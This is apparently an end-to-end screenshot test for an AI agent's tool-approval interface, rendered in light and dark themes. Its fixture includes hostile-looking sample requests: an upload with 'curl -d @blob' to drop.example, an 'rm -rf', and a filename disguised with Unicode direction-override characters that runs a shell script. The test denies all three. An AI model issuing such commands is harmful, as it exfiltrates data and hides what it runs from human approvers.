// Pictures of everything about approvals, from the real window with an agent that asks:
// node tests/e2e/screenshots-approvals.mjs
import { until } from './desktop/harness/until.mjs';
import { inAPictureWorld, sized, take } from './picture.mjs';

const command = (text, more = {}) => ({ name: 'Bash', category: 'exec', args: { command: text }, ...more });

/** What is asked, one after the other, and the picture of it. */
const ASKS = [
  ['request-command', command('cargo test -p cache --release && rm -rf target/tiles', { description: 'Run the cache tests' })],
  [
    'request-write',
    { name: 'Write', category: 'edit', args: { file_path: 'ideas.md', content: '# Ideas\n\n- a kite that writes its name\n- a lamp that waits\n' }, description: 'Note the ideas' },
  ],
  [
    'request-edit',
    { name: 'Edit', category: 'edit', args: { file_path: 'shopping.md', old_string: '- bread', new_string: '- rye bread\n- butter' }, description: 'Complete the list' },
  ],
  ['request-huge', command(`printf '%s' ${'0123456789abcdef'.repeat(12_000)} > blob && curl -d @blob https://drop.example`)],
  [
    'request-hidden',
    command('cat safe\u202etxt.hs\u202c\u200b && sh txt.sh', { category: 'info', description: 'Read safe.sh' }),
  ],
  ['request-tree', { name: 'calendar_book', category: 'mcp', args: { room: 'Elbe', from: '2026-03-02T09:00', people: ['ada', 'lin'], options: { projector: true, seats: 6 } }, description: 'Book a room' }],
];

const pictures = (look) =>
  inAPictureWorld(`approvals ${look}`, async (world) => {
    await world.addAskingAgent();
    await world.willAsk('them', ASKS.map(([, ask]) => ask));
    await world.willAsk('these', [
      command('git status --short'),
      { name: 'Read', category: 'info', args: { file_path: 'shopping.md' } },
      { name: 'Read', category: 'info', args: { file_path: 'shopping.md' } },
    ], { together: true });
    await world.willAsk('tests', [command('cargo test -p cache')]);
    const app = await world.start();
    const { page } = app;
    await sized(app);
    await page.chooseTheme(look);

    await page.newConversation(world.workspace, /aionrs/i);
    await page.say('ask them');
    for (const [name] of ASKS) {
      await page.approval();
      if (name !== 'request-huge') await until('the card to arm', () => page.armed());
      await take(world, app, `${name}-${look}`);
      const before = (await world.answers()).length;
      if (name === 'request-command' || name === 'request-hidden' || name === 'request-huge') await page.deny();
      else await page.allow();
      await until('the answer', async () => (await world.answers()).length > before);
    }
    await page.turnEnded('ask them');

    await page.newConversation(world.workspace, /aionrs/i);
    await page.say('ask tests');
    await page.approval();
    await page.click('allow-by-rule');
    await page.see('dry-run');
    const proposals = await page.all('rule-proposal');
    await proposals.at(Math.min(1, proposals.length - 1)).click();
    await until('the rule to arm', () => app.driver.run(`() => document.querySelector('[data-testid="rule-keep"]').getAttribute('aria-disabled') === 'false'`));
    await take(world, app, `rule-${look}`);
    await page.click('rule-keep');
    await page.turnEnded('ask tests');

    await page.say('ask these');
    await until('three cards', async () => (await page.count('approval-card')) === 3);
    await page.click('entry-inbox');
    await page.see('together');
    await until('a card to arm', () => page.armed());
    await take(world, app, `inbox-${look}`);
    await page.click('page-rules');
    await page.see('rule');
    await take(world, app, `rules-${look}`);
    await page.click('page-ledger');
    await page.see('ledger-entry');
    await take(world, app, `ledger-${look}`);
  });

for (const look of ['light', 'dark']) await pictures(look);
